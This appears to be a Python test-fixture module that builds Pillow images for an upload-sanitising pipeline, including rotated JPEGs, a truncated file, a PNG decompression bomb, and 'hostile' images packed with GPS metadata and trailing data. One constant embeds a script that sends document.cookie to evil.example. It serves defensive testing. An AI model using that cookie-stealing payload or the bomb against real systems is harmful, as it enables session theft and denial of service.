"""Test images made with real Pillow: good photos in each accepted format and broken ones.

Every good image is drawn red on top and blue at the bottom *as it should be displayed*, so a
test can tell whether an EXIF rotation was applied (assert_upright).
"""
from __future__ import annotations

import io
import struct
import zlib

from PIL import ExifTags, Image, ImageDraw

TOP = (220, 30, 30)
BOTTOM = (30, 60, 220)

# What a viewer does for each EXIF orientation, inverted: the stored pixels of an upright picture.
_STORE_FOR_ORIENTATION = {
    1: None,
    3: Image.Transpose.ROTATE_180,
    6: Image.Transpose.ROTATE_90,
    8: Image.Transpose.ROTATE_270,
}


def upright(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """A width×height picture: red upper half, blue lower half, a white mark top-left."""
    im = Image.new("RGB", (width, height), BOTTOM)
    draw = ImageDraw.Draw(im)
    draw.rectangle((0, 0, width, height // 2), fill=TOP)
    draw.rectangle((0, 0, max(1, width // 10), max(1, height // 10)), fill=(255, 255, 255))
    if mode == "I;16":  # full 16-bit range, as a scanner or a RAW converter writes it
        return im.convert("L").convert("I").point(lambda v: v * 257).convert("I;16")
    return im if mode == "RGB" else im.convert(mode)


def _stored(width: int, height: int, orientation: int | None) -> Image.Image:
    """The stored pixels (width×height) of a photo that displays upright after `orientation`."""
    transpose = _STORE_FOR_ORIENTATION.get(orientation or 1)
    if transpose is None:
        return upright(width, height)
    shown = (height, width) if orientation in (6, 8) else (width, height)
    return upright(*shown).transpose(transpose)


def _exif(orientation: int | None, gps: bool) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TestCam"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    if gps:
        exif[ExifTags.IFD.GPSInfo] = {
            ExifTags.GPS.GPSLatitudeRef: "S", ExifTags.GPS.GPSLatitude: (6.0, 12.0, 30.0),
            ExifTags.GPS.GPSLongitudeRef: "E", ExifTags.GPS.GPSLongitude: (106.0, 49.0, 12.0),
        }
    return exif


def jpeg(width: int, height: int, *, exif_orientation: int | None = None, gps: bool = False,
         quality: int = 90, mode: str = "RGB") -> bytes:
    im = _stored(width, height, exif_orientation)
    if mode != "RGB":
        im = im.convert(mode)
    out = io.BytesIO()
    kwargs = {}
    if exif_orientation or gps:
        kwargs["exif"] = _exif(exif_orientation, gps).tobytes()
    im.save(out, "JPEG", quality=quality, **kwargs)
    return out.getvalue()


def png(width: int, height: int, *, mode: str = "RGB", text: dict | None = None) -> bytes:
    from PIL import PngImagePlugin

    im = upright(width, height, mode)
    info = PngImagePlugin.PngInfo()
    for key, value in (text or {}).items():
        info.add_text(key, value)
    out = io.BytesIO()
    im.save(out, "PNG", pnginfo=info)
    return out.getvalue()


def webp(width: int, height: int, *, mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    upright(width, height, mode).save(out, "WEBP", quality=80)
    return out.getvalue()


def text_as_png() -> bytes:
    """What a user gets when they rename notes.txt to photo.png."""
    return b"These are my notes, not a picture. Saved with the wrong extension by mistake.\n" * 4


def truncated_jpeg() -> bytes:
    """A real JPEG cut in half, as an interrupted transfer leaves it."""
    data = jpeg(400, 300)
    return data[: len(data) // 2]


def _chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_bomb(width: int = 12_000, height: int = 12_000) -> bytes:
    """A small valid PNG that decodes to width×height pixels (144 MP by default): all rows are zero,
    so a few kilobytes of deflate expand to 18 MB of 1-bit pixels, or 432 MB once made RGB."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)  # filter byte + one bit per pixel
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", b"".join(parts)) + _chunk(b"IEND", b"")


def assert_upright(im: Image.Image) -> None:
    """Red band on top, blue band at the bottom, as drawn by upright()."""
    rgb = im.convert("RGB")
    w, h = rgb.size
    top = rgb.getpixel((w // 2, h // 8))
    bottom = rgb.getpixel((w // 2, h - 1 - h // 8))
    assert top[0] > 150 and top[2] < 100, f"expected red at the top, got {top}"
    assert bottom[2] > 150 and bottom[0] < 100, f"expected blue at the bottom, got {bottom}"


# ---- hostile files: metadata a user did not mean to publish, and structures that hide payloads ------

SECRET = b"SECRET-6.2088S-106.8456E"  # planted in every metadata block; must never be stored
XMP_PACKET = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
              b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
              b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="' + SECRET + b'"/></rdf:RDF>'
              b'</x:xmpmeta><?xpacket end="w"?>')
HTML_POLYGLOT = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script>" + SECRET + \
    b"</body></html>"


def gps_exif(orientation: int | None = None) -> bytes:
    exif = _exif(orientation, gps=True)
    exif[ExifTags.Base.ImageDescription] = SECRET.decode()
    return exif.tobytes()


def jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def with_jpeg_segments(data: bytes, *segments: bytes, trailing: bytes = b"") -> bytes:
    """`data` (a JPEG) with `segments` inserted right after SOI and `trailing` appended after EOI."""
    assert data[:2] == b"\xff\xd8"
    return data[:2] + b"".join(segments) + data[2:] + trailing


def hostile_jpeg(width: int = 240, height: int = 160, *, orientation: int | None = None, progressive=False) -> bytes:
    """Every kind of JPEG metadata at once: EXIF with GPS, XMP, IPTC, a maker-note-like APP, a comment
    holding a HTML page, a JFIF thumbnail, an MPF-style second image and a ZIP after EOI."""
    im = _stored(width, height, orientation)
    out = io.BytesIO()
    im.save(out, "JPEG", quality=90, exif=gps_exif(orientation), comment=HTML_POLYGLOT, progressive=progressive)
    base = out.getvalue()
    jfif_with_thumb = b"JFIF\x00\x01\x02\x00\x00\x48\x00\x48\x02\x02" + SECRET[:12]  # 2x2 RGB thumbnail
    iptc = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00" + struct.pack(">I", len(SECRET) + 5) + b"\x1c\x02\x5a" + \
        struct.pack(">H", len(SECRET)) + SECRET
    return with_jpeg_segments(
        base,
        jpeg_segment(0xE0, jfif_with_thumb),
        jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + XMP_PACKET),
        jpeg_segment(0xED, iptc),
        jpeg_segment(0xEB, b"MakerNote " + SECRET),
        jpeg_segment(0xE2, b"MPF\x00" + SECRET),
        jpeg_segment(0xFE, b"second comment " + SECRET),
        trailing=b"\xff\xd8\xff\xe0 a second image " + SECRET + b"PK\x03\x04zip" + SECRET,
    )


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    return _chunk(kind, payload)


def with_png_chunks(data: bytes, *chunks: bytes, trailing: bytes = b"") -> bytes:
    """`data` (a PNG) with `chunks` inserted right after IHDR, and `trailing` appended after IEND."""
    ihdr_end = 8 + 8 + 13 + 4
    return data[:ihdr_end] + b"".join(chunks) + data[ihdr_end:] + trailing


def hostile_png(width: int = 240, height: int = 160, *, mode: str = "RGB", orientation: int | None = None) -> bytes:
    from PIL import PngImagePlugin

    im = _stored(width, height, orientation)
    if mode != "RGB":
        im = im.convert(mode)
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRET.decode())
    info.add_text("Raw profile type iptc", SECRET.decode(), zip=True)
    info.add_itxt("XML:com.adobe.xmp", XMP_PACKET.decode())
    out = io.BytesIO()
    im.save(out, "PNG", pnginfo=info, exif=gps_exif(orientation))
    return with_png_chunks(out.getvalue(), png_chunk(b"tIME", b"\x07\xea\x0c\x02\x0c\x00\x00"),
                           png_chunk(b"prVt", SECRET), trailing=HTML_POLYGLOT)


def hostile_webp(width: int = 240, height: int = 160, *, lossless: bool = False, mode: str = "RGB",
                 orientation: int | None = None) -> bytes:
    im = _stored(width, height, orientation)
    if mode != "RGB":
        im = im.convert(mode)
    if mode == "RGBA":  # real transparency, so the encoder keeps an alpha channel
        im.putalpha(Image.linear_gradient("L").resize(im.size))
    out = io.BytesIO()
    im.save(out, "WEBP", quality=80, lossless=lossless, exif=gps_exif(orientation), xmp=XMP_PACKET)
    data = out.getvalue()
    extra = b"UNKN" + struct.pack("<I", len(SECRET)) + SECRET  # an unknown chunk inside RIFF
    body = data[12:] + extra
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body + HTML_POLYGLOT  # and bytes after RIFF


def riff_chunks(data: bytes) -> list[bytes]:
    """The FourCCs of a WebP's chunks, in order."""
    names, pos, end = [], 12, 8 + struct.unpack_from("<I", data, 4)[0]
    while pos < end:
        size = struct.unpack_from("<I", data, pos + 4)[0]
        names.append(data[pos:pos + 4])
        pos += 8 + size + (size & 1)
    return names


def png_chunks(data: bytes) -> list[bytes]:
    names, pos = [], 8
    while pos < len(data):
        size = struct.unpack_from(">I", data, pos)[0]
        names.append(data[pos + 4:pos + 8])
        pos += 12 + size
    return names


def jpeg_markers(data: bytes) -> list[int]:
    """Markers of the segments before the first scan, and whether anything follows EOI."""
    markers, pos = [], 2
    while pos < len(data) and data[pos + 1] != 0xDA:
        markers.append(data[pos + 1])
        pos += 2 + struct.unpack_from(">H", data, pos + 2)[0]
    return markers


def photo(width: int, height: int, seed: int = 1) -> Image.Image:
    """Photo-like content (smooth gradients, shapes, fine noise): flat colour flatters every codec."""
    import random

    rng = random.Random(seed)
    base = Image.linear_gradient("L").resize((width, height))
    r = base
    g = base.transpose(Image.Transpose.ROTATE_90).resize((width, height))
    b = Image.radial_gradient("L").resize((width, height))
    im = Image.merge("RGB", (r, g, b))
    draw = ImageDraw.Draw(im)
    for _ in range(40):
        x, y = rng.randrange(width), rng.randrange(height)
        radius = rng.randrange(max(2, min(width, height) // 30), max(3, min(width, height) // 6))
        draw.ellipse((x - radius, y - radius, x + radius, y + radius),
                     fill=(rng.randrange(256), rng.randrange(256), rng.randrange(256)))
    noise = Image.effect_noise((width, height), 24).convert("RGB")
    return Image.blend(im, noise, 0.25)
